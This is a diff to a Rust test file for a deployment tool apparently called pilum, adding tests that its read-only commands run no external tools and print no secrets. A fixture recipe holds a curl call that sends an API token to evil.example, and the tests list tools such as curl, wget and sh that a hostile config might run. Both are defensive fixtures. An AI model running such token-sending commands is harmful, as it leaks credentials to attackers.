@@ -1351,3 +1351,167 @@ fn every_recipe_and_strategy_example_in_the_docs_runs() {
     assert_eq!(r.status, 0, "docs/scaling.md:\n{strategy}\n{}{}", r.stdout, r.stderr);
     assert!(r.stdout.contains("→ 4  backlog 1800"), "decided from the backlog: {}", r.stdout);
 }
+
+// ---------------------------------------------------------------------------------------------
+// The trust model (docs/security.md): what is safe on an untrusted change
+// ---------------------------------------------------------------------------------------------
+
+/// The git subcommands these commands may run: read-only, and not configurable by the files of
+/// a change (see docs/security.md).
+const READ_ONLY_GIT: &[&str] = &["ls-files", "rev-parse"];
+
+/// The real `git`, for a fake that records its calls and passes read-only ones on.
+fn real_git() -> std::path::PathBuf {
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    std::env::split_paths(&path)
+        .map(|d| d.join("git"))
+        .find(|p| p.is_file())
+        .expect("git is installed (tests run real git histories)")
+}
+
+/// Tools a hostile `pilum.yaml` or recipe might try to run.
+const TOOLS: &[&str] = &[
+    "git", "docker", "pulumi", "gcloud", "aws", "az", "kubectl", "helm", "flyctl", "gh", "npm",
+    "cargo", "make", "curl", "wget", "sh", "bash", "python3",
+];
+
+/// Run read-only commands in `t` and assert that none ran a tool or printed a secret; with
+/// `valid`, that each also succeeded. Returns the stderr of each.
+fn assert_runs_nothing(
+    mut t: Test,
+    commands: &[&[&str]],
+    secrets: &[&str],
+    valid: bool,
+) -> Vec<String> {
+    let mut errors = Vec::new();
+    for args in commands {
+        t = t.clear_args().args(*args);
+        let r = t.run();
+        let all = format!("{}{}", r.stdout, r.stderr);
+        let shown = args.join(" ");
+        for secret in secrets {
+            assert!(!all.contains(secret), "`pilum {shown}` printed a secret:\n{all}");
+        }
+        for tool in TOOLS {
+            let calls: Vec<_> = t
+                .calls(tool)
+                .into_iter()
+                .filter(|argv| {
+                    let sub = argv.iter().skip_while(|a| a.starts_with('-') || a.starts_with('/'));
+                    tool != &"git" || !sub.take(1).any(|s| READ_ONLY_GIT.contains(&s.as_str()))
+                })
+                .collect();
+            assert!(calls.is_empty(), "`pilum {shown}` ran `{tool}` {calls:?}\n{all}");
+        }
+        assert!(!valid || r.status == 0, "`pilum {shown}` failed: {all}");
+        errors.push(r.stderr);
+    }
+    errors
+}
+
+/// A fake that records its call; `git` then runs for real (its calls are checked above).
+fn fake_body(tool: &str) -> String {
+    if tool == "git" {
+        format!("exec '{}' \"$@\"", real_git().display())
+    } else {
+        "echo ran".to_string()
+    }
+}
+
+/// A project whose `pilum.yaml` files put secrets in env, fields and commands.
+fn project_with_secrets() -> Test {
+    let mut t = Test::new()
+        .file(
+            "recipes/notify.rhai",
+            r#"// Top-level code: compiled, never evaluated by check/plan/list/graph.
+exec::run(["curl", "https://evil.example/?t=" + env::get("API_TOKEN")]);
+fn recipe() {
+    #{ name: "notify", description: "posts somewhere", provider: "hooks", kind: "app",
+       fields: [ #{ name: "token", type: "string", required: true, description: "a token" } ],
+       steps: [ #{ name: "deploy", tags: ["deploy"], run: "deploy" } ] }
+}
+fn deploy(ctx) { exec::run(["curl", "-H", ctx.fields.token, "https://hooks.example/"]); }
+"#,
+        )
+        .file(
+            "api/pilum.yaml",
+            "name: api\nrecipe: shell\nsecrets: [API_TOKEN, SERVICE_BLOB]\nenv:\n  TOKEN: ${API_TOKEN}\n  BLOB: ${SERVICE_BLOB}\nshell:\n  build: 'curl -H \"x: ${API_TOKEN}\" https://example.com'\n  deploy: ./deploy.sh ${SERVICE_BLOB}\n",
+        )
+        .file(
+            "web/pilum.yaml",
+            "name: web\nrecipe: notify\nsecrets: [API_TOKEN]\ndepends_on: [api]\nnotify:\n  token: ${API_TOKEN}\n",
+        )
+        .env("API_TOKEN", "tok-SECRET-value-123")
+        // Listed in `secrets:` although its name does not look secret.
+        .env("SERVICE_BLOB", "blob-SECRET-value-456");
+    for tool in TOOLS {
+        t = t.fake(tool, &fake_body(tool));
+    }
+    committed(t)
+}
+
+/// `t` as a git checkout with one commit (what CI checks out for a pull request).
+fn committed(t: Test) -> Test {
+    let t = t.file(".gitignore", ".bin/\n.calls/\n");
+    t.git(&["init", "-q", "-b", "main"]);
+    t.git(&["add", "-A"]);
+    t.git(&["commit", "-q", "-m", "change"]);
+    t
+}
+
+#[test]
+fn check_plan_list_and_graph_run_nothing_and_print_no_secret() {
+    // A valid project: each command does its whole job, and prints no secret.
+    let t = project_with_secrets();
+    assert_runs_nothing(
+        t,
+        &[
+            &["check"],
+            &["--json", "check"],
+            &["plan"],
+            &["--json", "plan"],
+            &["plan", "--dry-run"],
+            &["list"],
+            &["--json", "list"],
+            &["list", "--recipes"],
+            &["graph"],
+            &["--json", "graph"],
+        ],
+        &["tok-SECRET-value-123"],
+        true,
+    );
+
+    // A hostile declaration: `recipe()` and `plan()` run with no process, file or env API.
+    let mut t = Test::new()
+        .file(
+            "recipes/evil.rhai",
+            r#"fn recipe() {
+    exec::run(["curl", "https://evil.example/"]);
+    #{ name: "evil", description: "x", provider: "x", kind: "app", fields: [],
+       steps: [ #{ name: "deploy", tags: ["deploy"], run: "deploy" } ] }
+}
+fn deploy(ctx) { }
+"#,
+        )
+        .file("web/pilum.yaml", "name: web\nrecipe: evil\n")
+        .env("API_TOKEN", "tok-SECRET-value-123");
+    for tool in TOOLS {
+        t = t.fake(tool, &fake_body(tool));
+    }
+    let errors = assert_runs_nothing(
+        committed(t),
+        &[&["check"], &["plan"], &["list"], &["graph"]],
+        &["tok-SECRET-value-123"],
+        false,
+    );
+    assert!(errors[0].contains("may only build data: no commands, files or network"), "{errors:?}");
+}
+
+#[test]
+#[ignore = "listed `secrets:` are registered only when tasks run (issue 8, items 8-9: loaders and app layer)"]
+fn listed_secrets_with_plain_names_are_masked_by_plan() {
+    // `SERVICE_BLOB` is listed in `secrets:` but its name does not look secret, so only the
+    // list can mask it; `pilum --json plan` prints the expanded `deploy` command today.
+    let t = project_with_secrets();
+    assert_runs_nothing(t, &[&["plan"], &["--json", "plan"]], &["blob-SECRET-value-456"], true);
+}
